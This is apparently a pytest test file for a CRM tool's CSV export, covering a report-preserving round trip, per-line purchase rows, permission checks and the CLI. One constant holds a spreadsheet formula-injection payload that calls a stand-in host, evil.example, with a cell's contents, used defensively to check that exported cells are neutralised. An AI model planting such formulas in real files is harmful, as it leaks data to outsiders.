"""CSV export, and the round trip: demo data -> export -> import into an empty store -> every
report equal to the cent (the analytics engine on both stores)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pandas as pd
import pytest

from crpm import demo
from crpm.__main__ import main
from crpm.analytics import Analytics
from crpm.errors import PermissionDenied
from crpm.permissions import Actor
from crpm.services import open_services
from crpm.services.exporter import ExportService, export_frame
from tests.support import SQLITE_ONLY, STAFF, assert_invariants, cli_demo_data


@pytest.fixture
def services(services_on_each_engine):
    return services_on_each_engine


def export_all(store, actor, folder) -> dict:
    paths = {}
    for kind in ("customers", "products", "purchases"):
        paths[kind] = folder / f"{kind}.csv"
        ExportService(store).export(actor, kind, paths[kind])
    return paths


def last_month(clock) -> tuple[str, str]:
    """The calendar month before the clock's, as [from, to) days."""
    first = clock.utc_day().replace(day=1)
    return (first - timedelta(days=1)).replace(day=1).isoformat(), first.isoformat()


def reports(store) -> dict:
    """Every report the analytics engine gives, over all time and over last month."""
    engine = Analytics(store)
    try:
        out = {}
        for span in ((None, None), last_month(store.clock)):
            key = span[0] or "all"
            out[f"summary {key}"] = engine.summary(STAFF, *span)
            out[f"top {key}"] = engine.top_customers(STAFF, *span, limit=None)
            for name, frame in engine.product_performance(STAFF, *span, limit=None).items():
                out[f"products {name} {key}"] = frame
            for grain in ("day", "month"):
                out[f"trend {grain} {key}"] = engine.trend(STAFF, *span, grain=grain)
            for name, frame in engine.rfm(STAFF, *span).items():
                out[f"rfm {name} {key}"] = frame
            out[f"stock {key}"] = engine.stock_report(STAFF, *span, limit=None)["products"]
            out[f"tax {key}"] = engine.tax(STAFF, *span)
        return out
    finally:
        engine.close()


@SQLITE_ONLY  # the analytics engine and the import read SQLite only
@pytest.mark.any_day
def test_round_trip_gives_the_same_reports_to_the_cent(services, actor, tmp_path, clock):
    demo.generate(services.store, customers=80, products=30, purchases=3000, seed=5)
    shop = services.store
    # a purchase recorded by the service with its own order_ref, and a return and a cancel,
    # of products the demo left in stock (which ones depends on the day the history ends)
    first, second, third = [
        row[0] for row in shop.query("SELECT id FROM products WHERE stock >= 3 ORDER BY id LIMIT 3")
    ]
    # at a 20% default rate with prices including tax, a line and a purchase discount
    standard = services.taxes.add_rate(actor, "Standard", "20")
    services.taxes.update_settings(actor, default_tax_rate_id=standard.id, prices_include_tax=True)
    lines = [{"product_id": first, "quantity": 3, "discount": "10%"}, (second, 1)]
    sale = services.purchases.record(actor, 1, lines, order_ref="SHOP-77", discount="0.50")
    services.purchases.return_items(actor, sale.lines[0].id, 1, "too small")
    services.purchases.cancel(actor, services.purchases.record(actor, 2, [(third, 1)]).id)
    buyer = shop.query_one("SELECT customer_id FROM purchases WHERE cancelled_at IS NULL")[0]
    services.accounts.erase_person(actor, customer_id=buyer)  # anonymised, its sales stay
    paths = export_all(shop, actor, tmp_path)

    copy = open_services(tmp_path / "copy.db", clock)
    try:
        for kind in ("customers", "products", "purchases"):
            report = copy.imports.run(actor, kind, paths[kind])
            assert report.ok and report.written and not report.unknown_columns, report.text()
        assert_invariants(copy.store)
        before, after = reports(shop), reports(copy.store)
        assert before.keys() == after.keys()
        for name, frame in before.items():
            if isinstance(frame, pd.DataFrame):
                pd.testing.assert_frame_equal(frame, after[name], obj=name)
            else:
                assert frame == after[name], name
        assert before["summary all"].returns_cents > 0
        assert before["tax all"].set_index("tax_rate").loc["20", "tax_cents"] > 0
        assert before[f"summary {last_month(clock)[0]}"].orders > 0
        erased = copy.store.query_one("SELECT * FROM customers WHERE id = ?", (buyer,))
        assert erased["status"] == "erased" and erased["email"] == f"erased-{buyer}@invalid"
        # and the exported files themselves come back identical
        (tmp_path / "again").mkdir()
        again = export_all(copy.store, actor, tmp_path / "again")
        for kind, path in paths.items():
            assert path.read_text() == again[kind].read_text(), kind
    finally:
        copy.store.close()


def test_purchases_export_has_one_row_per_line_with_customer_and_product(services, actor, shop):
    ada = shop.customer("Ada", email="ada@example.com")
    kettle = shop.product(stock=5, price="24.50", sku="KIT-1", name="Kettle", category="Kitchen")
    mug = shop.product(stock=5, price="4.99", sku="KIT-2", name="Mug")
    sale = shop.sale(ada, (kettle, 2), (mug, 1))
    services.purchases.return_items(actor, sale.lines[0].id, 1)
    out = io.StringIO()
    assert services.exports.export(actor, "purchases", out) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0] == {
        **rows[0],
        "order_ref": f"P{sale.id}",
        "customer_email": "ada@example.com",
        "customer_name": "Ada",
        "sku": "KIT-1",
        "product_name": "Kettle",
        "category": "Kitchen",
        "quantity": "2",
        "unit_price": "24.50",
        "line_total": "49.00",
        "returned_quantity": "1",
        "cancelled_at": "",
    }
    assert rows[1]["returned_quantity"] == "" and rows[1]["unit_price"] == "4.99"


def test_movements_tickets_and_frames(services, actor, tmp_path):
    demo.generate(services.store, customers=20, products=5, purchases=200, seed=2)
    path = tmp_path / "moves.csv"
    count = services.exports.export(actor, "movements", path)
    rows = list(csv.DictReader(path.open()))
    assert count == len(rows) == services.store.query_one("SELECT count(*) FROM stock_movements")[0]
    assert {row["kind"] for row in rows} >= {"initial", "sale"}
    assert (
        sum(int(row["quantity"]) for row in rows)
        == services.store.query_one("SELECT sum(stock) FROM products")[0]
    )
    tickets = io.StringIO()
    assert services.exports.export(actor, "tickets", tickets) >= 1
    frame = pd.DataFrame({"customer": ["A", "B"], "revenue_cents": [100, 250]})
    assert export_frame(frame, tmp_path / "r.csv") == 2
    assert (tmp_path / "r.csv").read_text() == "customer,revenue_cents\nA,100\nB,250\n"


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'


def test_exported_cells_never_run_as_spreadsheet_formulas(services, actor, shop, tmp_path):
    shop.customer(HOSTILE_NAME, email="eve@example.com", phone="+44 20 7946 0958")
    path = tmp_path / "customers.csv"
    services.exports.export(actor, "customers", path)
    row = next(csv.DictReader(path.open()))
    assert row["name"] == "'" + HOSTILE_NAME
    assert row["phone"] == "'+44 20 7946 0958"
    frame = pd.DataFrame({"name": ["@SUM(A1)", "Ann"], "revenue": ["-15.00", "2.00"]})
    export_frame(frame, tmp_path / "report.csv")
    assert (tmp_path / "report.csv").read_text() == "name,revenue\n'@SUM(A1),-15.00\nAnn,2.00\n"


def test_an_exported_hostile_cell_imports_as_it_was(services, actor, shop, tmp_path):
    shop.customer(HOSTILE_NAME, email="eve@example.com", phone="+44 20 7946 0958")
    path = tmp_path / "customers.csv"
    services.exports.export(actor, "customers", path)
    other = open_services(tmp_path / "other.db")
    assert other.imports.run(actor, "customers", path).ok
    customer = other.customers.list(actor).items[0]
    assert (customer.name, customer.phone) == (HOSTILE_NAME, "+44 20 7946 0958")
    other.store.close()


def test_export_is_refused_to_customers(services):
    with pytest.raises(PermissionDenied):
        services.exports.export(Actor("c", "customer", customer_id=1), "customers", io.StringIO())


def test_cli_export(db_path, tmp_path, capsys):
    assert cli_demo_data(db_path, customers=5, products=3, purchases=20) == 0
    target = tmp_path / "c.csv"
    assert main(["--db", str(db_path), "export", "customers", str(target)]) == 0
    assert "5 customers row(s)" in capsys.readouterr().out
    assert target.read_text().startswith("name,email,phone")
    assert main(["--db", str(tmp_path / "none.db"), "export", "products", "x.csv"]) == 2
